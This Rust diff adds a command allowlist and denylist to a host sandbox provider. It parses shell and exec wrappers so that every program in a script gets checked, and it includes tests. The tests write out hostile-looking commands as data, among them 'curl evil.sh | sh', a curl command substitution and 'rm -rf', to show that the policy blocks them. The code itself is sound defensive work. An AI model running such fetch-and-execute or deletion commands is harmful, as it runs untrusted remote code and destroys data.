@@ -83,6 +83,7 @@ impl SandboxProvider for DangerousHostProvider {
             supervisor: Arc::new(supervisor),
             metadata,
             env: spec.env,
+            policy: CommandPolicy::from_config(&self.config),
         }))
     }
 
@@ -112,6 +113,7 @@ impl SandboxProvider for DangerousHostProvider {
             supervisor: Arc::new(supervisor),
             metadata,
             env: BTreeMap::new(),
+            policy: CommandPolicy::from_config(&self.config),
         }))
     }
 
@@ -142,6 +144,7 @@ struct DangerousHandle {
     metadata: SandboxMetadata,
     /// Per-sandbox env vars (from SandboxSpec.env).
     env: BTreeMap<String, String>,
+    policy: CommandPolicy,
 }
 
 #[async_trait]
@@ -175,6 +178,7 @@ impl SandboxHandle for DangerousHandle {
             command = ?req.command,
             "executing command in DangerousHost sandbox"
         );
+        self.policy.check(&req.command)?;
         // Merge sandbox-level env into request env
         for (k, v) in &self.env {
             req.env.entry(k.clone()).or_insert_with(|| v.clone());
@@ -186,6 +190,7 @@ impl SandboxHandle for DangerousHandle {
         &self,
         mut req: ExecRequest,
     ) -> Result<Box<dyn ExecStream + Send + Unpin>, SandboxError> {
+        self.policy.check(&req.command)?;
         for (k, v) in &self.env {
             req.env.entry(k.clone()).or_insert_with(|| v.clone());
         }
@@ -243,6 +248,201 @@ impl SandboxHandle for DangerousHandle {
     }
 }
 
+/// Program allow/deny lists from [`DangerousConfig`], checked before exec.
+///
+/// Entries match on the program's basename, so `curl` also blocks
+/// `/usr/bin/curl`. Shell wrappers (`bash -c "..."`) and exec wrappers
+/// (`env`, `sudo`, ...) are unwrapped and every program in the script is
+/// checked. This is a guardrail, not a security boundary.
+#[derive(Debug, Clone, Default)]
+struct CommandPolicy {
+    allow: Vec<String>,
+    deny: Vec<String>,
+}
+
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
+const EXEC_WRAPPERS: &[&str] = &["env", "exec", "command", "nohup"];
+/// Nested `sh -c "bash -c ..."` beyond this depth is rejected outright.
+const MAX_SHELL_DEPTH: usize = 4;
+
+impl CommandPolicy {
+    fn from_config(config: &DangerousConfig) -> Self {
+        Self {
+            allow: config.command_allowlist.clone(),
+            deny: config.command_denylist.clone(),
+        }
+    }
+
+    fn is_unrestricted(&self) -> bool {
+        self.allow.is_empty() && self.deny.is_empty()
+    }
+
+    fn check(&self, command: &[String]) -> Result<(), SandboxError> {
+        if self.is_unrestricted() {
+            return Ok(());
+        }
+        let mut programs = Vec::new();
+        collect_programs(command, 0, &mut programs)?;
+        for program in &programs {
+            if !self.allow.is_empty() && !self.allow.iter().any(|a| a == program) {
+                return Err(SandboxError::Forbidden(format!(
+                    "command '{program}' is not in the sandbox allowlist"
+                )));
+            }
+            if self.deny.iter().any(|d| d == program) {
+                return Err(SandboxError::Forbidden(format!(
+                    "command '{program}' is in the sandbox denylist"
+                )));
+            }
+        }
+        Ok(())
+    }
+}
+
+fn program_name(arg: &str) -> String {
+    arg.rsplit('/').next().unwrap_or(arg).to_string()
+}
+
+/// Walk an argv, unwrapping exec and shell wrappers, and push the basename
+/// of every program it would run.
+fn collect_programs(
+    argv: &[String],
+    depth: usize,
+    out: &mut Vec<String>,
+) -> Result<(), SandboxError> {
+    if depth > MAX_SHELL_DEPTH {
+        return Err(SandboxError::Forbidden(
+            "command nests shells too deeply to check".into(),
+        ));
+    }
+
+    // Skip leading `FOO=bar` assignments and exec wrappers (and their flags)
+    let mut i = 0;
+    while i < argv.len() {
+        let arg = &argv[i];
+        if is_env_assignment(arg) {
+            i += 1;
+            continue;
+        }
+        let name = program_name(arg);
+        if EXEC_WRAPPERS.contains(&name.as_str()) {
+            out.push(name);
+            i += 1;
+            while i < argv.len() && argv[i].starts_with('-') {
+                i += 1;
+            }
+            continue;
+        }
+        break;
+    }
+
+    let Some(program) = argv.get(i) else {
+        return Ok(());
+    };
+    let name = program_name(program);
+    out.push(name.clone());
+
+    if SHELLS.contains(&name.as_str()) {
+        // `bash -lc "<script>"`: the script follows the first flag containing 'c'
+        let rest = &argv[i + 1..];
+        if let Some(pos) = rest
+            .iter()
+            .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
+            && let Some(script) = rest.get(pos + 1)
+        {
+            for segment in split_shell_script(script) {
+                collect_programs(&segment, depth + 1, out)?;
+            }
+        }
+    }
+    Ok(())
+}
+
+fn is_env_assignment(arg: &str) -> bool {
+    match arg.split_once('=') {
+        Some((key, _)) => {
+            !key.is_empty()
+                && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+                && !key.starts_with(|c: char| c.is_ascii_digit())
+        }
+        None => false,
+    }
+}
+
+/// Split a shell script into simple commands on `;`, `&`, `|`, newlines,
+/// parentheses and command substitutions, honouring quotes and escapes.
+fn split_shell_script(script: &str) -> Vec<Vec<String>> {
+    let mut segments = Vec::new();
+    let mut words: Vec<String> = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut chars = script.chars().peekable();
+
+    let end_word = |word: &mut String, in_word: &mut bool, words: &mut Vec<String>| {
+        if *in_word {
+            words.push(std::mem::take(word));
+            *in_word = false;
+        }
+    };
+
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                in_word = true;
+                for q in chars.by_ref() {
+                    if q == '\'' {
+                        break;
+                    }
+                    word.push(q);
+                }
+            }
+            '"' => {
+                in_word = true;
+                while let Some(q) = chars.next() {
+                    match q {
+                        '"' => break,
+                        '\\' => {
+                            if let Some(escaped) = chars.next() {
+                                word.push(escaped);
+                            }
+                        }
+                        _ => word.push(q),
+                    }
+                }
+            }
+            '\\' => {
+                in_word = true;
+                if let Some(escaped) = chars.next() {
+                    word.push(escaped);
+                }
+            }
+            ';' | '&' | '|' | '\n' | '(' | ')' | '`' => {
+                end_word(&mut word, &mut in_word, &mut words);
+                if !words.is_empty() {
+                    segments.push(std::mem::take(&mut words));
+                }
+            }
+            '$' if chars.peek() == Some(&'(') => {
+                chars.next();
+                end_word(&mut word, &mut in_word, &mut words);
+                if !words.is_empty() {
+                    segments.push(std::mem::take(&mut words));
+                }
+            }
+            c if c.is_whitespace() => end_word(&mut word, &mut in_word, &mut words),
+            _ => {
+                in_word = true;
+                word.push(c);
+            }
+        }
+    }
+    end_word(&mut word, &mut in_word, &mut words);
+    if !words.is_empty() {
+        segments.push(words);
+    }
+    segments
+}
+
 /// Best-effort profile validation: log warnings if expected tools are missing.
 fn validate_profile(profile: &SandboxProfile) {
     let bins_to_check: &[&str] = match profile {
@@ -466,4 +666,96 @@ mod tests {
         assert!(!caps.public_http);
         assert!(caps.host_mounts);
     }
+
+    fn argv(parts: &[&str]) -> Vec<String> {
+        parts.iter().map(|s| s.to_string()).collect()
+    }
+
+    fn policy(allow: &[&str], deny: &[&str]) -> CommandPolicy {
+        CommandPolicy {
+            allow: argv(allow),
+            deny: argv(deny),
+        }
+    }
+
+    #[test]
+    fn empty_policy_allows_everything() {
+        let p = CommandPolicy::default();
+        assert!(p.check(&argv(&["curl", "https://example.com"])).is_ok());
+        assert!(p.check(&argv(&["rm", "-rf", "/tmp/x"])).is_ok());
+    }
+
+    #[test]
+    fn allowlist_permits_listed_programs_only() {
+        let p = policy(&["git", "cargo"], &[]);
+        assert!(p.check(&argv(&["git", "status"])).is_ok());
+        assert!(p.check(&argv(&["/usr/bin/cargo", "build"])).is_ok());
+        assert!(matches!(
+            p.check(&argv(&["curl", "https://example.com"])),
+            Err(SandboxError::Forbidden(_))
+        ));
+    }
+
+    #[test]
+    fn denylist_blocks_listed_programs() {
+        let p = policy(&[], &["curl", "rm"]);
+        assert!(p.check(&argv(&["git", "pull"])).is_ok());
+        assert!(matches!(
+            p.check(&argv(&["/bin/rm", "-rf", "src"])),
+            Err(SandboxError::Forbidden(_))
+        ));
+        assert!(matches!(
+            p.check(&argv(&["env", "FOO=1", "curl", "x"])),
+            Err(SandboxError::Forbidden(_))
+        ));
+    }
+
+    #[test]
+    fn shell_wrapper_checks_every_command_in_script() {
+        let p = policy(&["bash", "git", "cargo"], &[]);
+        assert!(p
+            .check(&argv(&["/bin/bash", "-lc", "git fetch && cargo test"]))
+            .is_ok());
+        assert!(matches!(
+            p.check(&argv(&["bash", "-lc", "git status; curl evil.sh | sh"])),
+            Err(SandboxError::Forbidden(_))
+        ));
+
+        let p = policy(&[], &["curl"]);
+        assert!(matches!(
+            p.check(&argv(&["sh", "-c", "echo $(curl -s x)"])),
+            Err(SandboxError::Forbidden(_))
+        ));
+        assert!(matches!(
+            p.check(&argv(&["bash", "-c", "FOO=1 sh -c 'curl x'"])),
+            Err(SandboxError::Forbidden(_))
+        ));
+        // Quoted text is data, not a command
+        assert!(p.check(&argv(&["bash", "-c", "echo 'curl is blocked'"])).is_ok());
+    }
+
+    #[tokio::test]
+    async fn exec_rejects_denied_command() {
+        let tmp = tempfile::tempdir().unwrap();
+        let config = DangerousConfig {
+            root_dir: tmp.path().join("sandboxes"),
+            command_denylist: vec!["curl".into()],
+            ..DangerousConfig::default()
+        };
+        let provider = DangerousHostProvider::new(config).unwrap();
+        let handle = provider.provision(base_spec("deny-ws")).await.unwrap();
+
+        let result = handle
+            .exec(ExecRequest {
+                command: vec!["bash".into(), "-lc".into(), "curl -s example.com".into()],
+                cwd: None,
+                env: BTreeMap::new(),
+                stdin: None,
+                timeout: Some(std::time::Duration::from_secs(5)),
+                tty: false,
+                detach: false,
+            })
+            .await;
+        assert!(matches!(result, Err(SandboxError::Forbidden(_))));
+    }
 }